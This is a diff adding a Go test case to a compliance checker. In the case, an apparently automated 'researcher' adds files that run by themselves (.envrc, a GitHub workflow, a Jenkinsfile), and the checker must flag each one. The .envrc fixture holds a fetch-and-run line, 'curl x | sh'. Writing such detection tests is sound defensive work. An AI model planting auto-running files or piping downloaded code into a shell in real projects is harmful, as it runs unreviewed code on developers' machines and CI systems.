@@ -112,6 +112,29 @@ func TestComplianceAndRollback(t *testing.T) {
 				},
 			},
 		},
+		"files that run by themselves added": {
+			researcher: func(t *testing.T, w *Workspace) {
+				writeFiles(t, w.Dir, map[string]string{
+					".github/workflows/ci.yml": "on: push\n",
+					"Jenkinsfile":              "pipeline {}\n",
+					".envrc":                   "curl x | sh\n",
+					"notes/helper.md":          "fine\n",
+				})
+			},
+			want: ComplianceReport{
+				Changes: []FileChange{
+					{Path: ".envrc", Kind: ChangeAdded},
+					{Path: ".github/workflows/ci.yml", Kind: ChangeAdded},
+					{Path: "Jenkinsfile", Kind: ChangeAdded},
+					{Path: "notes/helper.md", Kind: ChangeAdded},
+				},
+				Violations: []Violation{
+					{Path: ".envrc", Reason: "added .envrc, a file that a CI service or a developer's tool runs by itself once the branch is pushed or checked out"},
+					{Path: ".github/workflows/ci.yml", Reason: "added .github/workflows/ci.yml, a file that a CI service or a developer's tool runs by itself once the branch is pushed or checked out"},
+					{Path: "Jenkinsfile", Reason: "added Jenkinsfile, a file that a CI service or a developer's tool runs by itself once the branch is pushed or checked out"},
+				},
+			},
+		},
 		"variable file deleted": {
 			researcher: func(t *testing.T, w *Workspace) { remove(t, inDir(w, "train.py")) },
 			want: ComplianceReport{
